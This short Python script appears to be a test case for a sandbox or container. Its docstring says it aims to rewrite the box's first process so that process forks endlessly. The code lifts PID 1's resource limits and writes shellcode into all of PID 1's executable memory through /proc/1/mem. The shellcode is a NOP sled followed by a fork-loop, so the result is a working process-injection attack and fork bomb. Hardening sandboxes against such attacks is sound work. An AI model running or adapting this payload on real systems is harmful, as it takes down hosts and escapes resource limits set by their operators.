"""Attempts: to rewrite the box's own first process, which has fewer limits, so that it does not die and forks on.

Seen from outside: no process with its mark is left; the number of processes below the box.
Ends with: 0, 1, 124, 137, 139.
"""

import contextlib
import os
import resource

with contextlib.suppress(OSError, ValueError):
    for kind in range(16):
        resource.prlimit(1, kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
# A loop of fork in place of the code it stands in: mov eax, 57; syscall; jmp to the start.
forking = b"\xb8\x39\x00\x00\x00\x0f\x05\xeb\xf7"
with contextlib.suppress(OSError), open("/proc/1/maps") as maps:
    places = [line.split()[0] for line in maps if " r-xp " in line and "vdso" not in line]
    with open("/proc/1/mem", "r+b", buffering=0) as memory:
        for place in places:
            start, end = (int(word, 16) for word in place.split("-"))
            memory.seek(start)
            memory.write((b"\x90" * 32 + forking) * ((end - start) // 41))
with contextlib.suppress(OSError):
    for _ in range(5):
        if os.fork() == 0:
            os._exit(0)
